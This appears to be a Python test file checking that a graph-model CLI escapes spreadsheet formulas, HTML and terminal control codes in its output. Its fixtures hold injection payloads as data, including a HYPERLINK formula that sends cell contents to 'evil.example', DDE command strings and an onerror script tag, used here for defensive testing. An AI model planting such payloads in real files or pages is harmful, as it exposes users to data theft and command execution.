"""Tables for others: ids as they came, and on request none that a spreadsheet would compute."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

from qpignn import Intervals
from qpignn.cli.output import printable
from qpignn.cli.predict import FORMULA

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|x",
    "-2+3+cmd|x",
    "@SUM(1+1)",
    "\uff1d1+1",
    '="quoted, with a comma"',
]
PLAIN = ["-5", "+1e3", "a=b", "x@y.example", "'already", "007"]
IDS = HOSTILE + PLAIN


@pytest.fixture
def fitted(qpignn: Callable[..., Any], tmp_path: Path) -> Path:
    rng = np.random.default_rng(0)
    ids = [*IDS, *(f"n{i}" for i in range(40))]
    frame = pd.DataFrame({"id": ids, "x": rng.uniform(size=len(ids))})
    frame["y"] = (2 * frame["x"]).where(np.arange(len(ids)) >= len(IDS))  # hostile: unlabelled
    frame.to_csv(tmp_path / "nodes.csv", index=False)
    settings = ("--set", "hidden=4", "--set", "members=5", "--epochs", 1)
    done = qpignn(
        "fit",
        *("--nodes", tmp_path / "nodes.csv", "--target", "y", "--out", tmp_path / "model"),
        *settings,
    )
    assert done.code == 0, done.err
    return tmp_path / "model"


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [row[0] for row in csv.reader(file)][1:]


def test_ids_go_out_as_they_came_in(
    qpignn: Callable[..., Any], fitted: Path, tmp_path: Path
) -> None:
    for out in (tmp_path / "i.csv", tmp_path / "i.parquet"):
        done = qpignn("predict", fitted, "--out", out)
        assert done.code == 0, done.err
        assert ("--spreadsheet" in done.err) is (out.suffix == ".csv")
    assert cells(tmp_path / "i.csv") == IDS
    assert pd.read_parquet(tmp_path / "i.parquet")["id"].tolist() == IDS


def test_a_spreadsheet_gets_no_formulas(
    qpignn: Callable[..., Any], fitted: Path, tmp_path: Path
) -> None:
    done = qpignn("predict", fitted, "--spreadsheet", "--out", tmp_path / "i.csv")
    assert done.code == 0, done.err
    found = cells(tmp_path / "i.csv")
    assert found == [*(f"'{id}" for id in HOSTILE), *PLAIN]
    for id in found:
        assert id[0] not in "=@\uff1d"
        assert id[0] not in "+-" or float(id)
    done = qpignn("predict", fitted, "--spreadsheet", "--out", tmp_path / "i.parquet")
    assert done.code == 2
    assert "--spreadsheet goes with a .csv file" in done.err


def test_every_sign_that_begins_a_formula_is_known() -> None:
    for sign in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20":
        assert FORMULA.match(f"{sign}x"), sign
    assert not FORMULA.match("x=1")


def test_a_notebook_shows_ids_as_text() -> None:
    hostile = "<img src=x onerror=alert(1)>"
    shown = Intervals([1.0], [0.0], [2.0], 0.9, [hostile])._repr_html_()
    assert "<img" not in shown
    assert "&lt;img" in shown


def test_names_give_no_commands_to_the_terminal(qpignn: Callable[..., Any], tmp_path: Path) -> None:
    clear = "\x1b[2J\x1b]0;title\x07"
    assert "\x1b" not in printable(clear)
    assert printable("Größe 90\u00a0% → ∞\n") == "Größe 90\u00a0% → ∞\n"
    kind = np.where(np.arange(40) % 2 == 0, f"{clear}a", "b")
    frame = pd.DataFrame({"id": np.arange(40), f"{clear}kind": kind, "y": np.arange(40.0)})
    frame.to_csv(tmp_path / "nodes.csv", index=False)
    out = tmp_path / "model"
    settings = ("--set", "hidden=4", "--set", "members=5", "--epochs", 1)
    for words in (
        ("fit", "--nodes", tmp_path / "nodes.csv", "--target", "y", "--out", out, *settings),
        ("fit", "--nodes", tmp_path / "nodes.csv", "--target", f"{clear}y", "--out", out),
        ("evaluate", out),
        ("report", out, "--by", f"{clear}kind"),
    ):
        done = qpignn(*words)
        assert "\x1b[2J" not in done.out + done.err, words
        assert "\x07" not in done.out + done.err, words
